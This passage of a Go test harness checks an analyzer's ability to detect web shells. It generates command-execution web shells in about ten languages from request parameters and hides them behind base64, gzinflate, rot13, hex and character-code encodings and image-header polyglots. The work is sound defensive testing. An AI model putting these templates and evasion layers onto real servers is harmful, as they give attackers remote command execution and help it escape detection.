			call = "    return str(getattr(pickle, " + cat(o, "loads", " + ", "'") + ")(" + o.v + "))\n"
		}
		return pre + "@app.post('/restore')\ndef restore():\n" + cm(o, "hash") + get + call
	}},
	{name: "ruby-rails-controller", lang: "ruby", path: "/srv/app/app/controllers/ops_controller.rb", head: "require 'base64'\nclass OpsController < ApplicationController; end\n", render: func(o opts) string {
		get := "    " + o.v + " = Base64.decode64(params[:" + "command])\n"
		if o.array {
			get = "    " + o.w + " = [params.require(:command)]\n    " + o.v + " = Base64.decode64(" + o.w + "[0])\n"
		}
		call := "    @out = `#{" + o.v + "}`\n"
		switch {
		case o.callback:
			call = "    [" + o.v + "].each { |c| system(c) }\n"
		case o.concat:
			call = "    send(" + cat(o, "system", " + ", "'") + ", " + o.v + ")\n"
		}
		return "class OpsController\n  def run\n" + cm(o, "hash") + get + call + "  end\nend\n"
	}},
	{name: "ruby-sinatra-capture", lang: "ruby", path: "/srv/app/app.rb", head: "require 'sinatra'\nrequire 'open3'\n", render: func(o opts) string {
		pre, arg := "", o.v
		if o.array {
			pre, arg = "  "+o.w+" = ["+o.v+"]\n", o.w+"[0]"
		}
		call := "  out, _ = Open3.capture2e(" + arg + ")\n  out\n"
		switch {
		case o.callback:
			call = "  [" + arg + "].map { |c| IO.popen(c).read }.join\n"
		case o.concat:
			call = "  Kernel.send(" + cat(o, "system", " + ", "'") + ", " + arg + ")\n"
		}
		return "get '/x/:" + o.v + "' do |" + o.v + "|\n" + cm(o, "hash") + pre + call + "end\n"
	}},
	{name: "perl-mojolicious", lang: "perl", path: "/srv/app/script/app.pl", head: "use Mojolicious::Lite;\n", render: func(o opts) string {
		get := "  my $" + o.v + " = $self->param(" + cat(o, "c", ".", "'") + ");\n"
		if o.array {
			get = "  my @" + o.w + " = ($self->param('c'));\n  my $" + o.v + " = $" + o.w + "[0];\n"
		}
		return "get '/run/:c' => sub {\n  my $self = shift;\n" + get + cm(o, "hash") + "  $self->render(text => scalar `$" + o.v + "`);\n};\napp->start;\n"
	}},
	{name: "perl-dancer", lang: "perl", path: "/srv/app/bin/app.pl", head: "use Dancer2;\n", render: func(o opts) string {
		get := "  my $" + o.v + " = query_parameters->get(" + cat(o, "c", ".", "'") + ");\n"
		if o.array {
			get = "  my %" + o.w + " = (c => route_parameters->get('c'));\n  my $" + o.v + " = $" + o.w + "{c};\n"
		}
		return "get '/q' => sub {\n" + get + cm(o, "hash") + "  return qx{$" + o.v + "};\n};\nstart;\n"
	}},
	{name: "node-koa-body", lang: "node", path: "/srv/app/server.js", render: func(o opts) string {
		get := "const " + o.v + " = ctx.request.body.cmd;"
		if o.array {
			get = "const " + o.w + " = [ctx.request.body.cmd];" + nl(o) + "const " + o.v + " = " + o.w + "[0];"
		}
		call := "ctx.body = cp.execSync(" + o.v + ").toString();"
		switch {
		case o.callback:
			call = "ctx.body = cp.execSync.call(cp, " + o.v + ").toString();"
		case o.concat:
			call = "ctx.body = cp[" + cat(o, "execSync", " + ", "'") + "](" + o.v + ").toString();"
		}
		return "const Koa = require('koa');\nconst cp = require('child_process');\nconst app = new Koa();\napp.use(async (ctx) => {" + nl(o) + cm(o, "c") + get + nl(o) + call + nl(o) + "});\napp.listen(3000);\n"
	}},
	{name: "node-fastify-function", lang: "node", path: "/srv/api/index.js", render: func(o opts) string {
		get := "const " + o.v + " = request.body.code;"
		if o.array {
			get = "const { code: " + o.v + " } = request.body;"
		}
		call := "return new Function('return (' + " + o.v + " + ')')();"
		switch {
		case o.callback:
			call = "return [" + o.v + "].map(eval);"
		case o.concat:
			call = "return globalThis[" + cat(o, "eval", " + ", "'") + "](" + o.v + ");"
		}
		return "const fastify = require('fastify')();\nfastify.post('/calc', async (request, reply) => {" + nl(o) + cm(o, "c") + get + nl(o) + call + nl(o) + "});\n"
	}},
	{name: "lua-openresty", lang: "lua", path: "/usr/local/openresty/nginx/lua/exec.lua", render: func(o opts) string {
		get := "local " + o.v + " = args.cmd\n"
		if o.array {
			get = "local " + o.w + " = { args[\"cmd\"] }\nlocal " + o.v + " = " + o.w + "[1]\n"
		}
		call := "local f = io.popen(" + o.v + ")\n"
		switch {
		case o.callback:
			call = "local ok, f = pcall(io.popen, " + o.v + ")\n"
		case o.concat:
			call = "local f = io[" + cat(o, "popen", " .. ", `"`) + "](" + o.v + ")\n"
		}
		return "local args = ngx.req.get_uri_args()\n" + cm(o, "lua") + get + call + "ngx.say(f:read(\"*a\"))\nf:close()\n"
	}},
	{name: "lua-nginx-block", lang: "nginx", path: "/etc/nginx/sites-enabled/default", render: func(o opts) string {
		get := "local " + o.v + " = ngx.var.arg_c\n"
		if o.array {
			get = "local " + o.w + " = { ngx.var.arg_c }\nlocal " + o.v + " = " + o.w + "[1]\n"
		}
		call := "os.execute(" + o.v + " .. \" > /tmp/o\")\n"
		switch {
		case o.callback:
			call = "pcall(os.execute, " + o.v + ")\n"
		case o.concat:
			call = "os[" + cat(o, "execute", " .. ", "'") + "](" + o.v + ")\n"
		}
		return cm(o, "lua") + get + call + "ngx.say(\"done\")\n"
	}},
	// a Perl pipe open whose program the request names
	{name: "perl-list-open", lang: "perl", path: "/usr/lib/cgi-bin/ver.cgi", render: func(o opts) string {
		get := "my $" + o.v + " = $q->param(" + cat(o, "p", ".", "'") + ");"
		if o.array {
			get = "my @" + o.w + " = ($q->param('p'));\nmy $" + o.v + " = $" + o.w + "[0];"
		}
		return "use CGI;\nmy $q = CGI->new;\n" + get + "\n" + cm(o, "hash") + "print $q->header('text/plain');\nopen(my $fh, '-|', $" + o.v + ", '--version') or die;\nprint while <$fh>;\n"
	}},
}

// wrapPage wraps code into the file the language runs.
func wrapPage(lang, code string) string {
	switch lang {
	case "php":
		return "<?php\n" + code + "\n?>\n"
	case "jsp":
		return "<%@ page import=\"java.io.*\" %>\n<%\n" + code + "\n%>\n"
	case "aspx":
		return "<%@ Page Language=\"C#\" %>\n<%\n" + code + "\n%>\n"
	case "jscript":
		return "<%@ Page Language=\"Jscript\" %>\n<%\n" + code + "\n%>\n"
	case "asmx":
		return "<%@ WebService Language=\"C#\" Class=\"Svc\" %>\n" + code + "\n"
	case "asp":
		return "<%\r\n" + code + "\r\n%>\r\n"
	case "perl":
		return "#!/usr/bin/perl\n" + code
	case "python":
		return "#!/usr/bin/env python3\n" + code
	case "ruby":
		return "#!/usr/bin/env ruby\n" + code
	case "nginx":
		return "server {\n  listen 80;\n  location /status {\n    default_type text/plain;\n    content_by_lua_block {\n" + code + "\n    }\n  }\n}\n"
	}
	return code
}

// encoding is one layer a page's code can hide behind: the wrapper that decodes it at run
// time, and the chain a finding must name.
type encoding struct {
	name  string
	langs string // languages it fits
	wrap  func(code string) string
	chain []string
}

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

func deflate(s string) []byte {
	var b bytes.Buffer
	w, _ := flate.NewWriter(&b, 9)
	w.Write([]byte(s))
	w.Close()
	return b.Bytes()
}

func phpQuote(s string) string {
	return "'" + strings.NewReplacer(`\`, `\\`, `'`, `\'`).Replace(s) + "'"
}

func chrs(s, sep, fn string) string {
	var parts []string
	for _, c := range []byte(s) {
		parts = append(parts, fmt.Sprintf("%s(%d)", fn, c))
	}
	return strings.Join(parts, sep)
}

var encodings = []encoding{
	{"base64", "php", func(c string) string { return "eval(base64_decode('" + b64(c) + "'));" }, []string{"base64"}},
	{"gzinflate", "php", func(c string) string {
		return "eval(gzinflate(base64_decode('" + base64.StdEncoding.EncodeToString(deflate(c)) + "')));"
	}, []string{"base64", "gzinflate"}},
	{"rot13", "php", func(c string) string { return "eval(str_rot13(" + phpQuote(decode.Rot13(c)) + "));" }, []string{"rot13"}},
	{"strrev", "php", func(c string) string { return "eval(strrev(" + phpQuote(decode.Reverse(c)) + "));" }, []string{"strrev"}},
	{"hex", "php", func(c string) string { return "eval(hex2bin('" + hex.EncodeToString([]byte(c)) + "'));" }, []string{"hex"}},
	{"chr", "php", func(c string) string { return "eval(" + chrs(c, ".", "chr") + ");" }, []string{"chr"}},
	{"literal", "php", func(c string) string { return "eval(" + phpQuote(c) + ");" }, []string{"code literal"}},
	{"nowdoc", "php", func(c string) string {
		// a label of its own: a nowdoc inside another must not end it
		l := fmt.Sprintf("EOT%d", len(c))
		return "$src = <<<'" + l + "'\n" + c + "\n" + l + ";\n@eval($src);"
	}, []string{"code literal"}},
	{"chr", "asp", func(c string) string { return "Execute(" + chrs(c, " & ", "Chr") + ")" }, []string{"chr"}},
	{"base64", "jsp", func(c string) string {
		return "javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName(\"js\"); e.put(\"request\", request); e.put(\"out\", out);\n" +
			"e.eval(new String(java.util.Base64.getDecoder().decode(\"" + b64(c) + "\")));"
	}, []string{"base64"}},
	{"base64", "jscript", func(c string) string {
		return "eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(\"" + b64(c) + "\")), \"unsafe\");"
	}, []string{"base64"}},
	{"base64", "python", func(c string) string { return "import base64\nexec(base64.b64decode('" + b64(c) + "'))\n" }, []string{"base64"}},
	{"base64", "perl", func(c string) string { return "use MIME::Base64;\neval(decode_base64('" + b64(c) + "'));\n" }, []string{"base64"}},
	{"base64", "ruby", func(c string) string { return "require 'base64'\neval(Base64.decode64('" + b64(c) + "'))\n" }, []string{"base64"}},
	{"base64", "node", func(c string) string { return "eval(Buffer.from('" + b64(c) + "', 'base64').toString());\n" }, []string{"base64"}},
	{"atob", "node", func(c string) string { return "new Function(atob('" + b64(c) + "'))();\n" }, []string{"base64"}},
	{"fromCharCode", "node", func(c string) string { return "eval(String.fromCharCode(" + charCodes(c) + "));\n" }, []string{"chr"}},
	{"base64", "lua", func(c string) string { return "loadstring(ngx.decode_base64('" + b64(c) + "'))()\n" }, []string{"base64"}},
}

// charCodes is s as a list of character codes.
func charCodes(s string) string {
	var parts []string
	for _, c := range []byte(s) {
		parts = append(parts, fmt.Sprint(c))
	}
	return strings.Join(parts, ",")
}

func encodingsFor(lang string) []encoding {
	if lang == "nginx" {
		lang = "lua" // an nginx configuration's Lua blocks
	}
	var out []encoding
	for _, e := range encodings {
		if e.langs == lang {
			out = append(out, e)
		}
	}
	return out
}

// headers are image headers put in front of a page: GIF, PNG and JPEG.
var headers = []struct{ name, data string }{
	{"GIF", "GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,"},
	{"PNG", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89"},
	{"JPEG", "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xfe\x00\x13"},
}

// variant is one generated file and what the analyzer must say about it.
type variant struct {
	seed      string
	technique string
	path      string
	data      []byte
	chain     []string // the decoding chain the finding must name; nil for none
	polyglot  string   // the image the finding must name; "" for none
}

var names = []string{"cmd", "x", "_0x3f", "data", "payload", "q1", "zz", "buf", "arg", "k"}

// randomOpts picks other transformations to go beside the one under test.
func randomOpts(r *rand.Rand) opts {
	o := opts{v: names[r.Intn(len(names))], w: names[r.Intn(len(names))] + "s"}
	o.split = r.Intn(3) == 0
	o.comments = r.Intn(3) == 0
	return o
}

// variants generates the harness's files: for each technique, every seed it fits.
func variants() []variant {
	r := rand.New(rand.NewSource(11))
	var out []variant
	add := func(s seed, tech string, o opts, enc []encoding, hdr string, hname string) {
		code := s.render(o)
		var chain []string
		for _, e := range enc {
			code = e.wrap(code)
		}
		for i := len(enc) - 1; i >= 0; i-- {
			chain = append(chain, enc[i].chain...)
		}
		data := hdr + wrapPage(s.lang, s.head+code)
		v := variant{seed: s.name, technique: tech, path: s.path, data: []byte(data), chain: chain}
		if hname != "" {
			v.polyglot = hname + " image"
		}
		out = append(out, v)
	}
	for _, s := range seeds {
		caseless := s.lang == "php" || s.lang == "asp"
		add(s, "original", opts{v: "cmd", w: "arr"}, nil, "", "")
		for i := 0; i < 3; i++ {
			o := randomOpts(r)
			o.split, o.comments = false, false
			add(s, "renamed-variables", o, nil, "", "")
		}
		o := randomOpts(r)
		o.split = true
		add(s, "split-lines", o, nil, "", "")
		o = randomOpts(r)
		o.comments = true
		add(s, "comments", o, nil, "", "")
		o = randomOpts(r)
		o.concat = true
		add(s, "concatenation", o, nil, "", "")
		if caseless {
			o = randomOpts(r)
			o.mixCase = true
			add(s, "case", o, nil, "", "")
		}
		if s.lang == "php" || s.lang == "python" || s.lang == "ruby" || s.lang == "node" || s.lang == "lua" || s.lang == "nginx" {
			o = randomOpts(r)
			o.callback = true
			add(s, "callbacks", o, nil, "", "")
		}
		o = randomOpts(r)
		o.array = true
		add(s, "through-arrays", o, nil, "", "")
		if s.lang == "php" || s.lang == "jsp" || s.lang == "aspx" || s.lang == "jscript" || s.lang == "asp" {
			for _, h := range headers {
				add(s, "image-header", randomOpts(r), nil, h.data, h.name)
			}
		}
		encs := encodingsFor(s.lang)
		for _, e := range encs {
			add(s, "encoding-1", randomOpts(r), []encoding{e}, "", "")
		}
		if len(encs) > 0 {
			for n := 2; n <= 3; n++ {
				for k := 0; k < 3; k++ {
					var enc []encoding
					for len(enc) < n {
						enc = append(enc, encs[r.Intn(len(encs))])
					}
					add(s, fmt.Sprintf("encoding-%d", n), randomOpts(r), enc, "", "")
				}
			}
			// everything at once
			o := randomOpts(r)
			o.concat, o.comments, o.split, o.array = true, true, true, true
			o.mixCase = caseless
			hdr, hname := "", ""
			if s.lang == "php" {
				hdr, hname = headers[0].data, headers[0].name
			}
			add(s, "combined", o, []encoding{encs[r.Intn(len(encs))], encs[r.Intn(len(encs))]}, hdr, hname)
		}
	}
	return out
}

// found reports whether the findings name the variant as a web shell with its chain and
// header.
func found(v variant, fs []audit.Finding) (bool, string) {
	want := "decoded: " + strings.Join(v.chain, " > ")
	for _, f := range fs {
		if f.Category != audit.CategoryWebshell || f.Severity < audit.High {
			continue
		}
		if len(v.chain) > 0 && !strings.Contains(f.Title, "("+want+")") {
			continue
		}
		if len(v.chain) == 0 && strings.Contains(f.Title, "decoded:") {
			continue
		}
		if v.polyglot != "" && !strings.Contains(f.Title, v.polyglot) {
			continue
		}
		return true, ""
	}
	return false, "want webshell" + map[bool]string{true: " (" + want + ")", false: ""}[len(v.chain) > 0] + " " + v.polyglot + "; got:" + dump(fs)
}

func TestHarness(t *testing.T) {
	a := New()
	type tally struct{ found, total int }
	byTech := map[string]*tally{}
	for _, v := range variants() {
		ty := byTech[v.technique]
		if ty == nil {
			ty = &tally{}
			byTech[v.technique] = ty
		}
		ty.total++
		fs := a.Analyze(v.path, v.data)
		ok, why := found(v, fs)
		if ok {
			ty.found++
			continue
		}
		t.Errorf("%s/%s: %s\n--- variant:\n%s", v.seed, v.technique, why, v.data)
	}
	techs := make([]string, 0, len(byTech))
	for k := range byTech {
		techs = append(techs, k)
	}
	sort.Strings(techs)
	all := tally{}
	for _, k := range techs {
		ty := byTech[k]
		all.found += ty.found
		all.total += ty.total
		fmt.Printf("harness: webshell/%s %d/%d recall=%.3f\n", k, ty.found, ty.total, float64(ty.found)/float64(ty.total))
	}
	fmt.Printf("harness: webshell/all %d/%d recall=%.3f\n", all.found, all.total, float64(all.found)/float64(all.total))
}
